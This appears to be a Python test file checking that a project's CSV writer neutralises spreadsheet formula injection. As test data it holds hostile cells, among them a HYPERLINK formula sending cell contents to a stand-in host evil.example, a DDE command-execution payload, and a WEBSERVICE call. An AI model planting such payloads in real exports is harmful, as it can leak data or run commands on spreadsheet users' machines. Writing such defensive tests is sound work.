"""CSV injection: no text cell Vigie writes can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from vigie.platform.spreadsheet import FORMULA_STARTS, csv_writer, neutralise
from vigie_cli.incident_csv import LineError, errors_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _read_back(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_hostile_cells_are_quoted_and_kept_readable() -> None:
    out = io.StringIO()
    csv_writer(out).writerow(HOSTILE)
    (row,) = _read_back(out.getvalue())
    assert row == ["'" + value for value in HOSTILE]


def test_numbers_and_ordinary_text_are_untouched() -> None:
    assert neutralise(-3) == -3
    assert neutralise(-1.5) == -1.5
    assert neutralise("Saint-Denis") == "Saint-Denis"
    assert neutralise("") == ""


@given(st.lists(st.text(max_size=20), max_size=5))
def test_no_cell_read_back_starts_a_formula(cells: list[str]) -> None:
    out = io.StringIO()
    csv_writer(out, lineterminator="\r\n").writerow(cells)
    for row in _read_back(out.getvalue()):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS)


def test_an_import_error_report_neutralises_what_the_landlord_sent() -> None:
    report = errors_csv([LineError(2, '=WEBSERVICE("http://x")', "incident_id", "@refusé")])
    rows = _read_back(report.removeprefix("\ufeff"), delimiter=";")
    assert rows[1] == ["2", '\'=WEBSERVICE("http://x")', "incident_id", "'@refusé"]
